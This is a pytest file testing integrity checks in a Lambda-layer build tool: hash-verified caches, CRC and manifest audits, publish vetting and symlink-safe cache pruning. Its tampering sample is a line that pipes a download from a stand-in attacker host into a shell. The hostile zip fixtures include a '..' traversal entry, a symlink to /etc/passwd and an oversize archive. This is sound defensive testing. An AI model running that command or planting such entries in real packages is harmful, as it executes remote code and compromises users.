"""#16 "Trust nothing that comes back": stored artifacts are checked against their hashes on every use,
dist/ never shares an inode with the cache, audit and publish check CRCs and the manifest's sha256,
publish vets and audits before any AWS call, and cache prune never follows a symbolic link.

Everything runs against servers on 127.0.0.1 (a PackageIndex, moto), bounded in time."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import shutil
import stat
import zipfile
from pathlib import Path

import boto3
import pytest
import reliability_figures
import requests
from conftest import tree_snapshot
from faultproxy import PackageIndex

from layerbuild.cache import builds as cache
from layerbuild.cache import bytecode as pyccache
from layerbuild.cache import prune as cacheprune
from layerbuild.model.manifest import Manifest, PackagePin
from layerbuild.util.tree import write_deterministic_zip

GOOD = b"GOOD = True\n"
TAMPERED = b"import os\nos.system('curl http://attacker.invalid | sh')\n"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def warnings_in(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("warning: ")]


@pytest.fixture(autouse=True)
def private_cache(tmp_path, monkeypatch):
    """Each test its own layerbuild cache (uv's download cache stays shared); no automatic prune."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv(cacheprune.MAX_SIZE_ENV, raising=False)
    return tmp_path / "xdg" / "layerbuild"


@pytest.fixture
def index():
    with PackageIndex() as server:
        yield server


@pytest.fixture
def goodpkg(index, write_recipe, invoke):
    """A recipe locked against goodpkg 1.0 on the loopback index (a build then asks uv nothing)."""
    filename, _ = index.add("goodpkg", "1.0", files={"goodpkg/__init__.py": GOOD})
    recipe = write_recipe(f"name: good\npackages: [goodpkg]\nindex_url: {index.simple_url}\nbytecode: none\n")
    locked = invoke("lock", recipe)
    assert locked.exit_code == 0, locked.stderr
    return recipe, filename


def stored_wheel(filename: str) -> Path:
    [path] = (Path(os.environ["XDG_CACHE_HOME"]) / "layerbuild" / "wheels").glob(f"*/*/{filename}")
    return path


def layer_member(zip_path: Path, name: str) -> bytes:
    with zipfile.ZipFile(zip_path) as archive:
        return archive.read(name)


def downloads(index) -> int:
    return sum("/files/" in r for r in index.requests)


# --- finding 1: every use of a stored artifact is checked against its hash --------------------------


def test_a_wheel_changed_in_the_store_is_discarded_downloaded_again_and_never_shipped(goodpkg, index, invoke, tmp_path):
    """#16 finding 1: a stored wheel rewritten after download (still a valid zip, tampered
    goodpkg/__init__.py) is not shipped by `build --no-cache`: one line names it, it is downloaded again."""
    recipe, filename = goodpkg
    first = invoke("build", recipe, "--out", tmp_path / "one", "--no-cache")
    assert first.exit_code == 0, first.stderr
    stored = stored_wheel(filename)
    original = stored.read_bytes()
    with zipfile.ZipFile(io.BytesIO(original)) as source, zipfile.ZipFile(stored, "w") as tampered:
        for info in source.infolist():
            data = TAMPERED if info.filename == "goodpkg/__init__.py" else source.read(info)
            tampered.writestr(info.filename, data)  # RECORD left as it was: only the store's hash can tell
    assert zipfile.is_zipfile(stored) and stored.read_bytes() != original
    reliability_figures.count("bad_inputs", detail="tampered stored wheel")
    before = downloads(index)

    result = invoke("build", recipe, "--out", tmp_path / "two", "--no-cache")
    assert result.exit_code == 0, result.stderr
    layer = tmp_path / "two" / "good-python3.12-x86_64.zip"
    assert layer_member(layer, "python/goodpkg/__init__.py") == GOOD
    assert warnings_in(result.stderr) == [
        (f"warning: {stored}: stored wheel sha256 does not match the {stored.parent.name[:16]}... it is stored under: "
         f"discarded, downloading it again")]  # fmt: skip
    assert downloads(index) == before + 1
    assert stored.read_bytes() == original  # the store holds the good file again
    again = invoke("build", recipe, "--out", tmp_path / "three", "--no-cache")
    assert again.exit_code == 0 and warnings_in(again.stderr) == [] and downloads(index) == before + 1


def test_a_damaged_bytecode_pack_is_discarded_with_one_line_and_compiled_again(tmp_path, capsys, monkeypatch):
    """#16 finding 1: a bytecode pack whose entry no longer matches its sha256 is not used: the module
    is compiled afresh, the pack removed, and one line on stderr names the pack."""
    from test_bytecode import HOST, make_site

    from layerbuild.build import bytecode

    monkeypatch.delenv(pyccache.SWITCH_ENV, raising=False)
    first = make_site(tmp_path / "first")
    bytecode.compile_tree(first, HOST, "alongside")
    pyc = next(first.rglob("__init__*.pyc")).relative_to(first)
    [pack] = pyccache.pack_paths(pyccache.store_root())
    data = bytearray(pack.read_bytes())
    data[len(pyccache.MAGIC) + 40] ^= 0xFF  # inside the first entry's bytes
    pack.write_bytes(bytes(data))
    reliability_figures.count("bad_inputs", detail="damaged bytecode pack")
    capsys.readouterr()

    second = make_site(tmp_path / "second")
    bytecode.compile_tree(second, HOST, "alongside")
    assert (second / pyc).read_bytes() == (first / pyc).read_bytes()
    assert warnings_in(capsys.readouterr().err) == [
        f"warning: {pack}: a bytecode pack entry fails its sha256: discarded, its modules are compiled again"]
    third = make_site(tmp_path / "third")  # the pack was stored again, whole: no complaint now
    bytecode.compile_tree(third, HOST, "alongside")
    assert (third / pyc).read_bytes() == (first / pyc).read_bytes() and warnings_in(capsys.readouterr().err) == []


def test_a_cached_zip_changed_in_place_is_rebuilt_with_one_line(goodpkg, invoke, tmp_path):
    """#16 finding 1: a cached build whose zip no longer matches the sha256 recorded for it is removed and
    built again (one line naming the entry); what was shipped before is untouched."""
    recipe, _ = goodpkg
    first = invoke("build", recipe, "--out", tmp_path / "one")
    assert first.exit_code == 0, first.stderr
    shipped = tmp_path / "one" / "good-python3.12-x86_64.zip"
    good = sha256(shipped)
    [entry] = [p.parent for p in cache.cache_root().glob("*/*/layer.zip")]
    with zipfile.ZipFile(entry / "layer.zip", "a") as archive:  # in place: same inode, still a valid zip
        archive.writestr("python/goodpkg/evil.py", TAMPERED)
    reliability_figures.count("bad_inputs", detail="tampered cached build")

    result = invoke("build", recipe, "--out", tmp_path / "two")
    assert result.exit_code == 0, result.stderr
    assert f"cache entry corrupted (sha256 mismatch): removed {entry}, rebuilding" in result.stderr
    rebuilt = tmp_path / "two" / "good-python3.12-x86_64.zip"
    assert sha256(rebuilt) == good and "python/goodpkg/evil.py" not in zipfile.ZipFile(rebuilt).namelist()
    assert sha256(shipped) == good


# --- finding 19: a damaged or empty wheel in the store ---------------------------------------------


@pytest.mark.parametrize("damage", ["empty", "truncated", "not a zip"])
def test_a_damaged_or_empty_stored_wheel_is_named_and_downloaded_again(goodpkg, index, invoke, tmp_path, damage):
    """#16 finding 19: a 0-byte, truncated or garbage wheel in the store no longer fails every build
    (even with --no-cache): one line names the file, it is downloaded again and the build succeeds."""
    recipe, filename = goodpkg
    assert invoke("build", recipe, "--out", tmp_path / "one", "--no-cache").exit_code == 0
    stored = stored_wheel(filename)
    data = stored.read_bytes()
    stored.write_bytes({"empty": b"", "truncated": data[: len(data) // 2], "not a zip": b"<html>oops</html>"}[damage])
    reliability_figures.count("bad_inputs", detail="damaged stored wheel")

    result = invoke("build", recipe, "--out", tmp_path / "two", "--no-cache")
    assert result.exit_code == 0, result.stderr
    [line] = warnings_in(result.stderr)
    assert line.startswith(f"warning: {stored}: stored wheel ") and line.endswith(": discarded, downloading it again")
    assert ("empty (0 bytes)" in line) == (damage == "empty")
    assert stored.read_bytes() == data
    assert layer_member(tmp_path / "two" / "good-python3.12-x86_64.zip", "python/goodpkg/__init__.py") == GOOD


# --- finding 4: dist/ never shares an inode with the cache; audit checks CRCs and the manifest -------


def test_dist_zips_share_no_inode_with_the_cache_and_survive_damage_to_it(goodpkg, invoke, tmp_path):
    """#16 finding 4: a built zip and a cache hit are copies of the cache entry, not hard links:
    corrupting the entry in place leaves every dist/ zip as its manifest describes it."""
    recipe, _ = goodpkg
    built = invoke("build", recipe, "--out", tmp_path / "one")
    assert built.exit_code == 0, built.stderr
    hit = invoke("build", recipe, "--out", tmp_path / "two")
    assert hit.exit_code == 0 and hit.stdout.startswith("cached: "), hit.stderr
    [entry] = cache.cache_root().glob("*/*/layer.zip")
    outputs = [tmp_path / d / "good-python3.12-x86_64.zip" for d in ("one", "two")]
    for output in outputs:
        assert output.stat().st_ino != entry.stat().st_ino and output.stat().st_nlink == 1
        assert not os.path.samefile(output.with_suffix(".json"), entry.parent / "manifest.json")
    with open(entry, "r+b") as handle:  # damage in place, as a disk or a careless tool would
        handle.seek(10)
        handle.write(b"\0" * 64)
    reliability_figures.count("faults", detail="cache entry damaged in place")
    for output in outputs:
        assert sha256(output) == json.loads(output.with_suffix(".json").read_text())["sha256"]
        assert invoke("audit", output).exit_code == 0


def flip_member_byte(zip_path: Path, member: str) -> None:
    """Change one byte of a stored member's data: the zip still opens, the member fails its CRC."""
    with zipfile.ZipFile(zip_path) as archive:
        info = archive.getinfo(member)
        assert info.compress_type == zipfile.ZIP_STORED
    data = bytearray(zip_path.read_bytes())
    name_length, extra_length = int.from_bytes(data[info.header_offset + 26:info.header_offset + 28], "little"), \
        int.from_bytes(data[info.header_offset + 28:info.header_offset + 30], "little")  # fmt: skip
    data[info.header_offset + 30 + name_length + extra_length] ^= 0x20
    zip_path.write_bytes(bytes(data))


def layer_zip(path: Path, files: dict[str, bytes], links: dict[str, str] | None = None,
              compress: int = zipfile.ZIP_STORED) -> Path:  # fmt: skip
    with zipfile.ZipFile(path, "w", compress, compresslevel=1 if compress == zipfile.ZIP_DEFLATED else None) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return path


def write_manifest(zip_path: Path, name: str = "hostile") -> Path:
    """A manifest whose sha256 is the zip's as it is now (so only what is inside the zip is wrong)."""
    digest = hashlib.sha256(zip_path.read_bytes())
    manifest = Manifest(name=name, runtime="python3.12", python="3.12", architecture="x86_64", backend="wheels",
                        packages=[PackagePin(name, "1.0")], file_count=1, zipped_bytes=zip_path.stat().st_size,
                        unzipped_bytes=1, sha256=digest.hexdigest(),
                        code_sha256=base64.b64encode(digest.digest()).decode(), zip=zip_path.name,
                        license="MIT", compatible_runtimes=["python3.12"])  # fmt: skip
    path = zip_path.with_suffix(".json")
    path.write_text(manifest.to_json())
    return path


def test_audit_fails_on_a_member_with_a_bad_crc_naming_it(invoke, tmp_path):
    """#16 finding 4: `audit` inflates every member and checks its CRC-32: a flipped byte fails the audit
    with one line naming the member (it said ok before)."""
    path = layer_zip(tmp_path / "crc-python3.12-x86_64.zip",
                     {"python/fine.py": b"A = 1\n" * 50, "python/pkg/victim.py": b"B = 2\n" * 50})  # fmt: skip
    assert invoke("audit", path, "--python", "3.12", "--arch", "x86_64").exit_code == 0
    flip_member_byte(path, "python/pkg/victim.py")
    reliability_figures.count("bad_inputs", detail="zip member with a bad CRC")
    result = invoke("audit", path, "--python", "3.12", "--arch", "x86_64")
    assert result.exit_code == 1 and "Traceback" not in result.output
    [line] = result.stderr.splitlines()
    assert line.startswith(f"error: {path}: entry 'python/pkg/victim.py' fails its CRC-32 check")
    assert line.endswith("the zip is damaged; rebuild it")


def test_stack_fails_on_a_member_with_a_bad_crc_naming_it(invoke, tmp_path):
    """#16 (re-check): `stack` said ok on a zip whose member fails its CRC, while `audit` refused it."""
    path = layer_zip(tmp_path / "crc-python3.12-x86_64.zip", {"python/pkg/victim.py": b"B = 2\n" * 50})
    assert invoke("stack", path).exit_code == 0
    flip_member_byte(path, "python/pkg/victim.py")
    reliability_figures.count("bad_inputs", detail="zip member with a bad CRC (stack)")
    result = invoke("stack", path)
    assert result.exit_code == 1 and "Traceback" not in result.output
    [line] = result.stderr.splitlines()
    assert line.startswith(f"error: {path}: entry 'python/pkg/victim.py' fails its CRC-32 check")


def test_audit_fails_when_the_zip_no_longer_matches_its_manifest_naming_both(invoke, tmp_path):
    """#16 finding 4: `audit` compares the zip's sha256 with the manifest beside it; a mismatch fails
    naming both files (with or without --python/--arch)."""
    path = layer_zip(tmp_path / "changed-python3.12-x86_64.zip", {"python/changed.py": b"A = 1\n"})
    manifest = write_manifest(path)
    assert invoke("audit", path).exit_code == 0
    layer_zip(path, {"python/changed.py": b"A = 2\n"})  # a valid zip, another sha256
    reliability_figures.count("bad_inputs", detail="zip not matching its manifest")
    for flags in ([], ["--python", "3.12", "--arch", "x86_64"]):
        result = invoke("audit", path, *flags)
        assert result.exit_code == 1
        [line] = result.stderr.splitlines()
        assert line.startswith(f"error: {path}: sha256 {sha256(path)[:16]}... does not match the sha256 recorded in "
                               f"its manifest {manifest} (")  # fmt: skip


# --- finding 5: publish runs the same vetting and audit before any AWS call --------------------------


@pytest.fixture
def aws(moto, monkeypatch):
    requests.post(f"{moto}/moto-api/reset", timeout=10)
    monkeypatch.setenv("AWS_ENDPOINT_URL", moto)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIAFAKETRUSTTEST")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "fakeSecretTrustTest")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)
    monkeypatch.delenv("LAYERBUILD_ENDPOINT_URL_US_EAST_1", raising=False)
    return moto


def published_layers() -> list:
    return boto3.client("lambda", region_name="us-east-1").list_layers()["Layers"]


def _hostile(kind: str, tmp_path: Path) -> tuple[Path, str]:
    """(zip with a manifest beside it, what the refusal must say)."""
    path = tmp_path / f"{kind.replace(' ', '')}-python3.12-x86_64.zip"
    good = {"python/ok.py": b"OK = 1\n" * 20}
    if kind == "dotdot":
        layer_zip(path, {**good, "../../evil.py": b"import os\n"})
        said = "entry '../../evil.py' climbs out of the layer with '..'"
    elif kind == "absolute link":
        layer_zip(path, good, links={"python/passwd": "/etc/passwd"})
        said = "symlink 'python/passwd' points outside the layer (absolute target '/etc/passwd')"
    elif kind == "oversize":  # 300,000,000 bytes unzipped from ~1.3 MB: members under the zip-bomb ratio floor
        layer_zip(path, {f"python/blob/part{i:02}.bin": bytes(7_500_000) for i in range(40)}, compress=zipfile.ZIP_DEFLATED)
        said = "unzips to 300,000,000 bytes, over Lambda's 262,144,000-byte limit"
    elif kind == "bad crc":
        layer_zip(path, {**good, "python/pkg/victim.py": b"B = 2\n" * 50})
        flip_member_byte(path, "python/pkg/victim.py")
        said = "entry 'python/pkg/victim.py' fails its CRC-32 check"
    elif kind == "manifest mismatch":
        layer_zip(path, good)
        write_manifest(path)
        layer_zip(path, {"python/ok.py": b"CHANGED = 1\n"})
        return path, "does not match its manifest"
    elif kind == "fails the audit":
        layer_zip(path, {"numpy/__init__.py": b"X = 1\n"})
        said = "fails the audit with 1 error(s), the first [python-outside-python]"
    write_manifest(path)
    return path, said


@pytest.mark.parametrize("kind", ["dotdot", "absolute link", "oversize", "bad crc", "manifest mismatch", "fails the audit"])
def test_publish_refuses_what_audit_refuses_before_any_aws_call(aws, invoke, tmp_path, kind):
    """#16 finding 5: `publish ZIP` vets and audits the zip like `audit` before calling AWS: '../' members,
    absolute symlinks, over 250 MB unzipped, bad CRCs and a sha256 not matching the manifest are refused
    in one line each, and nothing is published (moto lists no layer)."""
    path, said = _hostile(kind, tmp_path)
    reliability_figures.count("bad_inputs", detail="hostile zips handed to publish")
    for extra in ([], ["--dry-run"]):
        result = invoke("publish", path, "--region", "us-east-1", *extra)
        assert result.exit_code == 1, result.output
        [line] = result.stderr.splitlines()
        assert line.startswith("error: ") and str(path) in line and said in line, line
        assert "Traceback" not in result.output
    assert published_layers() == []


def test_publish_still_publishes_a_sound_zip(aws, invoke, tmp_path):
    """#16 finding 5 (the other side): a sound zip with its manifest passes the vetting and is published."""
    root = tmp_path / "tree"
    (root / "python" / "sound").mkdir(parents=True)
    (root / "python" / "sound" / "__init__.py").write_text("SOUND = True\n")
    path = tmp_path / "sound-python3.12-x86_64.zip"
    write_deterministic_zip(root, path)
    write_manifest(path, "sound")
    result = invoke("publish", path, "--region", "us-east-1", "--json")
    assert result.exit_code == 0, result.stderr
    assert [layer["LayerName"] for layer in published_layers()] == ["sound-py312-x86_64"]


# --- finding 7: cache prune never follows a symbolic link -------------------------------------------


def fake_entry(folder: Path, files: dict[str, bytes]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


@pytest.fixture
def outside(tmp_path) -> Path:
    """A user's directory outside the cache, shaped like cache entries so a followed link would prune it."""
    root = tmp_path / "precious"
    for key in ("aa" * 32, "bb" * 32):
        fake_entry(root / key, {"layer.zip": b"P" * 5000, "manifest.json": b"{}", "entry.json": b"{}",
                                "keep.whl": b"W" * 5000})  # fmt: skip
    fake_entry(root, {"thesis.pack": b"K" * 5000, "notes.pyc": b"N" * 100})
    fake_entry(root / "ab", {"old.pyc": b"O" * 100})
    fake_entry(root / "ab" / ("cc" * 32), {"layer.zip": b"Q" * 5000, "entry.json": b"{}", "keep.whl": b"V" * 5000})
    (root / "installed.json").write_text(json.dumps({"bytes": 10**9}))
    return root


# Where the link goes, relative to $XDG_CACHE_HOME/layerbuild, and what it points at (in `outside`).
LINKS = {
    "builds/zz": "",  # a shard
    "builds/ab/" + "cd" * 32: "aa" * 32,  # an entry
    "builds/ab/" + "ef" * 32 + "/layer.zip": "aa" * 32 + "/layer.zip",  # a file in an entry
    "wheels/zz": "",
    "wheels/ab/" + "01" * 32: "bb" * 32,
    "bytecode/" + "0" * 32 + ".pack": "thesis.pack",
    "bytecode/zz": "",
    "runtime-sdk/python3.12-x86_64": "",
    "builds": "",  # the cache root's children themselves
    "wheels": "",
    "bytecode": "",
    "runtime-sdk": "",
}


@pytest.mark.parametrize("mode", [["--all"], [], ["--max-size", "0"], ["--older-than", "1s"]])
@pytest.mark.parametrize("where", list(LINKS))
def test_prune_removes_links_never_what_they_point_to(invoke, outside, private_cache, monkeypatch, where, mode):
    """#16 finding 7: a symbolic link anywhere in the cache (a shard, an entry, a file, a store itself) is
    removed as a link by `cache prune` (--all and the LRU prune); the files it points to stay, and
    `cache info` does not count them."""
    monkeypatch.setenv(cacheprune.MAX_SIZE_ENV, "0")  # the plain prune cuts to the cap: everything goes
    home = private_cache
    fake_entry(home / "builds" / "12" / ("12" * 32), {"layer.zip": b"z" * 100, "manifest.json": b"{}",
                                                       "entry.json": b"{}"})  # a real entry: pruned as usual
    old = home / "builds" / "12" / ("12" * 32) / "entry.json"
    os.utime(old, (1, 1))
    link = home / where
    link.parent.mkdir(parents=True, exist_ok=True)
    if link.exists():
        shutil.rmtree(link)  # "builds" itself becomes the link
    link.symlink_to(outside / LINKS[where])
    before = tree_snapshot(outside)
    reliability_figures.count("bad_inputs", detail="symlink in the cache")

    info = invoke("cache", "info", "--json")
    assert info.exit_code == 0, info.stderr
    data = json.loads(info.stdout)
    counted = data["bytes"] + data["wheel_bytes"] + data["bytecode_bytes"] + data["runtime_sdk_bytes"]
    assert counted == (0 if where == "builds" else 100 + 2 * 2)  # the real entry only, never what a link points to

    result = invoke("cache", "prune", *mode)
    assert result.exit_code == 0, result.stderr
    assert tree_snapshot(outside) == before and sorted(outside.rglob("*")) and not os.path.lexists(link)
    assert "removed 1 symbolic link(s) without following them" in result.stdout
    if where != "builds":
        assert not (home / "builds" / "12" / ("12" * 32)).exists()  # pruning itself still works


def test_automatic_prune_after_a_build_never_follows_a_link(goodpkg, invoke, outside, tmp_path, monkeypatch):
    """#16 finding 7: the cap applied after every store (LAYERBUILD_CACHE_MAX_SIZE) removes a shard link
    as a link, and leaves what it points to."""
    recipe, _ = goodpkg
    shard = cache.cache_root() / "zz"
    shard.parent.mkdir(parents=True, exist_ok=True)
    shard.symlink_to(outside)
    before = tree_snapshot(outside)
    monkeypatch.setenv(cacheprune.MAX_SIZE_ENV, "1")
    result = invoke("build", recipe, "--out", tmp_path / "dist")
    assert result.exit_code == 0, result.stderr
    assert tree_snapshot(outside) == before and not os.path.lexists(shard)
